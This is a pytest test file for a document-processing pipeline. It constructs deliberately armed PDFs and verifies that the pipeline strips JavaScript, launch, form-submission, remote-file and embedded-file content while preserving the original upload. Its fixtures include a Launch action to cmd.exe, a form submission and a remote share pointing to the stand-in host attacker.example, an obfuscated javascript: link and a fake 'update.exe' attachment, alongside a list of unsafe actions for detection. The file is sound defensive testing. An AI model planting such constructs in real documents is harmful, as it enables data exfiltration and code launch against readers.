"""Active content (scripts, launch and submit actions, embedded files) never survives
processing: hostile PDFs made on the spot go through the real pipeline, the processed PDF
comes out inert, the original stays byte for byte what was uploaded."""

from __future__ import annotations

import hashlib
import io
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from documents.models import DocumentStatus, ProcessingLog, StepStatus
from documents.tests.conftest import encrypted_pdf, stored_bytes

pytestmark = pytest.mark.django_db

INVOICE_TEXT = "Invoice 4711 from Example Supplies Ltd, total amount due 123.45 EUR"
# Actions that run code, reach out or open other files: none may be left in a processed PDF.
UNSAFE_ACTIONS = {
    "/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE",
    "/Rendition", "/RichMediaExecute",
}  # fmt: skip
COLLECT_URL = "https://attacker.example/collect"
UNSAFE_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"}


@pytest.fixture(autouse=True)
def _pipeline_programs(engines: None) -> None:
    """Every test here runs the pipeline."""


# --- Making hostile PDFs ---------------------------------------------------------------------


def javascript(pdf: pikepdf.Pdf, code: str) -> pikepdf.Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def text_pdf(text: str = INVOICE_TEXT) -> pikepdf.Pdf:
    """One page with a real text layer, so the OCR step keeps it as it is."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(612, 792))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(f"BT /F1 11 Tf 72 720 Td ({text}) Tj ET".encode())
    return pdf


def armed(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    """Every kind of active content a reader might run, at every place it can hide, next to
    things a reader needs (a web link, a bookmark, a filled-in form field)."""
    page = pdf.pages[0].obj
    root = pdf.Root
    root.OpenAction = javascript(pdf, "app.alert('OpenAction ran')")
    root.AA = Dictionary(WC=javascript(pdf, "app.alert('close')"))
    page.AA = Dictionary(O=javascript(pdf, "app.alert('page opened')"))

    def link(action: Dictionary, y: int) -> Dictionary:
        return Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=[72, y, 300, y + 12], Border=[0, 0, 0], A=action
        )

    launch = Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe"), NewWindow=True)
    remote = Dictionary(S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit]))
    import_data = Dictionary(S=Name.ImportData, F=String("data.fdf"))
    # A harmless first action whose /Next chain hides a script.
    chained = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=javascript(pdf, "app.alert('next')"))
    web = Dictionary(S=Name.URI, URI=String("https://example.com/pay/4711"))
    script_uri = Dictionary(S=Name.URI, URI=String(" java\tscript:alert(document.domain)"))

    customer = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("customer"), V=String("ACME Ltd"),
            Rect=[72, 600, 300, 620], P=page,
            AA=Dictionary(K=javascript(pdf, "event.rc = true"), F=javascript(pdf, "this.submitForm('x')")),
        )
    )  # fmt: skip
    send = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("send"),
            Rect=[72, 560, 150, 580], P=page,
            A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(COLLECT_URL)), Flags=4),
        )
    )  # fmt: skip
    root.AcroForm = Dictionary(Fields=Array([customer, send]), XFA=pdf.make_stream(b"<xdp:xdp/>"))

    attached = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", filename="update.exe")
    attachment = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[400, 700, 420, 720],
        FS=attached.obj, Contents=String("Open me"),
    )  # fmt: skip
    page.Annots = pdf.make_indirect(
        Array(
            [
                link(launch, 500), link(remote, 480), link(import_data, 460), link(chained, 440),
                link(web, 420), link(script_uri, 400), customer, send, attachment,
            ]
        )
    )  # fmt: skip

    pdf.attachments["invoice-data.xml"] = pikepdf.AttachedFileSpec(pdf, b"<x/>", filename="invoice-data.xml")
    root.Names.JavaScript = Dictionary(Names=Array([String("init"), javascript(pdf, "app.alert('names')")]))
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Run me", action=javascript(pdf, "app.alert('outline')")))
        outline.root.append(pikepdf.OutlineItem("Page 1", 0))
    return pdf


def pdf_bytes(pdf: pikepdf.Pdf) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def hostile_invoice() -> bytes:
    return pdf_bytes(armed(text_pdf()))


# --- Looking into a PDF ----------------------------------------------------------------------


def opened(content: bytes) -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(content))


def each_dictionary(pdf: pikepdf.Pdf) -> Iterator[pikepdf.Object]:
    """Every dictionary and stream in the file, reachable or not, direct or indirect."""
    containers = (pikepdf.Dictionary, pikepdf.Stream, pikepdf.Array)
    pending: list[pikepdf.Object] = [pdf.trailer, *pdf.objects]
    while pending:
        item = pending.pop()
        if isinstance(item, pikepdf.Array):
            children = list(item)
        elif isinstance(item, (pikepdf.Dictionary, pikepdf.Stream)):
            yield item
            children = [value for _, value in item.items()]
        else:
            continue
        pending.extend(child for child in children if isinstance(child, containers) and not child.is_indirect)


def active_content(content: bytes) -> list[str]:
    """What a reader could run, send or open in this PDF, one line per finding."""
    found = []
    with opened(content) as pdf:
        for item in each_dictionary(pdf):
            if item.get("/S") in UNSAFE_ACTIONS or "/JS" in item:
                found.append(f"action {item.get('/S')}")
            if item.get("/S") == "/URI" and not str(item.get("/URI", "")).startswith("https:"):
                found.append(f"link to {item.get('/URI')}")
            if "/AA" in item:
                found.append("additional actions")
            if item.get("/Type") == "/EmbeddedFile" or "/EF" in item:
                found.append("embedded file")
            if item.get("/Subtype") in UNSAFE_ANNOTATIONS:
                found.append(f"annotation {item.get('/Subtype')}")
            for key in ("/XFA", "/JavaScript", "/EmbeddedFiles"):
                if key in item:
                    found.append(key)
        if "/OpenAction" in pdf.Root and isinstance(pdf.Root.OpenAction, pikepdf.Dictionary):
            found.append(f"open action {pdf.Root.OpenAction.get('/S')}")
    return found


def text_of(content: bytes, tmp_path: Path) -> str:
    path = tmp_path / "look.pdf"
    path.write_bytes(content)
    return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, check=True).stdout.decode()


def embed_message(document) -> str:
    return (
        ProcessingLog.objects.filter(document=document, step_name="embed_metadata", status=StepStatus.SUCCESS)
        .values_list("message", flat=True)
        .get()
    )


# --- The attack --------------------------------------------------------------------------------


def test_every_kind_of_active_content_is_removed_from_the_processed_pdf_and_the_original_is_untouched(
    process, tmp_path
):
    content = hostile_invoice()
    assert len(active_content(content)) > 15  # the test PDF really is armed

    document = process(content, "invoice.pdf")

    assert document.status == DocumentStatus.COMPLETED, document.error
    processed = stored_bytes(document.processed_file)
    assert active_content(processed) == []
    original = stored_bytes(document.original_file)
    assert hashlib.sha256(original).hexdigest() == hashlib.sha256(content).hexdigest()
    assert INVOICE_TEXT in " ".join(text_of(processed, tmp_path).split())
    assert "total amount due" in document.ocr_text


def test_what_a_reader_needs_stays_the_web_link_the_bookmark_and_the_filled_in_form_field(process):
    document = process(hostile_invoice(), "invoice.pdf")

    with opened(stored_bytes(document.processed_file)) as pdf:
        actions = [annotation.A for annotation in pdf.pages[0].Annots if "/A" in annotation]
        assert Dictionary(S=Name.URI, URI=String("https://example.com/pay/4711")) in actions
        # The chain's harmless first step is still a link to the page, without its script.
        assert any(action.get("/S") == "/GoTo" and "/Next" not in action for action in actions)
        fields = {str(field.T): field for field in pdf.Root.AcroForm.Fields}
        assert str(fields["customer"].V) == "ACME Ltd"
        assert "/A" not in fields["send"]  # a button that submits nothing any more
        with pdf.open_outline() as outline:
            bookmarks = {item.title: item for item in outline.root}
            assert bookmarks["Run me"].action is None  # still listed, does nothing
            assert bookmarks["Page 1"].destination is not None
        assert len(pdf.pages) == 1


def test_the_processing_log_says_what_was_removed(process):
    document = process(hostile_invoice(), "invoice.pdf")

    message = embed_message(document)

    assert message.startswith("Title, author, subject and keywords written into the PDF; removed ")
    for part in (
        "8 JavaScript actions", "1 launch action", "1 form submission", "1 data import",
        "1 link to another file", "1 link to a non-web address", "2 embedded files", "1 XFA form",
    ):  # fmt: skip
        assert part in message, message


def test_a_clean_pdf_is_processed_without_a_word_about_removals(process):
    document = process(pdf_bytes(text_pdf()), "clean.pdf")

    assert document.status == DocumentStatus.COMPLETED, document.error
    assert embed_message(document) == "Title, author, subject and keywords written into the PDF"


def test_a_scanned_pdf_that_needs_ocr_loses_its_script_and_gains_its_text(process, samples, tmp_path):
    with pikepdf.open(samples / "scan.pdf") as pdf:
        pdf.Root.OpenAction = javascript(pdf, "app.launchURL('https://attacker.example/')")
        pdf.pages[0].obj.AA = Dictionary(O=javascript(pdf, "app.alert(1)"))
        content = pdf_bytes(pdf)

    document = process(content, "scan.pdf")

    assert document.status == DocumentStatus.COMPLETED, document.error
    assert document.steps.get(name="ocr").status == StepStatus.SUCCESS
    processed = stored_bytes(document.processed_file)
    assert active_content(processed) == []
    assert "ChronoScribe" in text_of(processed, tmp_path)
    assert stored_bytes(document.original_file) == content


# --- Ordinary PDFs that look a little like hostile ones --------------------------------------


def test_a_signed_pdf_with_ordinary_form_fields_still_processes(process):
    pdf = text_pdf()
    page = pdf.pages[0].obj
    signature = Dictionary(
        Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), SubFilter=Name("/adbe.pkcs7.detached"),
        ByteRange=Array([0, 100, 200, 300]), Contents=String(b"\0" * 64), M=String("D:20240101000000Z"),
    )  # fmt: skip
    signed = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T=String("signature"),
                   Rect=[0, 0, 0, 0], P=page, V=pdf.make_indirect(signature))
    )  # fmt: skip
    paid = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("paid"), V=Name.Yes,
                   AS=Name.Yes, Rect=[72, 500, 84, 512], P=page)
    )  # fmt: skip
    page.Annots = Array([signed, paid])
    pdf.Root.AcroForm = Dictionary(Fields=Array([signed, paid]), SigFlags=3)

    document = process(pdf_bytes(pdf), "signed.pdf")

    assert document.status == DocumentStatus.COMPLETED, document.error
    assert embed_message(document) == "Title, author, subject and keywords written into the PDF"
    with opened(stored_bytes(document.processed_file)) as processed:
        fields = {str(field.T): field for field in processed.Root.AcroForm.Fields}
        assert fields["signature"].V.Type == Name.Sig
        assert str(fields["paid"].V) == "/Yes"


def test_a_damaged_but_repairable_pdf_still_processes_and_loses_its_script(process):
    content = pdf_bytes(armed(text_pdf()))
    # A wrong startxref: readers (and qpdf) rebuild the cross-reference table by scanning.
    damaged = content[: content.rindex(b"startxref")] + b"startxref\n999999\n%%EOF\n"

    document = process(damaged, "damaged.pdf")

    assert document.status == DocumentStatus.COMPLETED, document.error
    assert active_content(stored_bytes(document.processed_file)) == []
    assert stored_bytes(document.original_file) == damaged


def test_an_unreadable_or_protected_pdf_still_fails_as_before(process, tmp_path):
    source = tmp_path / "armed.pdf"
    source.write_bytes(hostile_invoice())
    protected = encrypted_pdf(source, tmp_path / "protected.pdf").read_bytes()

    assert "password-protected" in process(protected, "protected.pdf").error
    assert "not a readable PDF" in process(b"%PDF-1.7\n" + b"\0" * 200, "broken.pdf").error
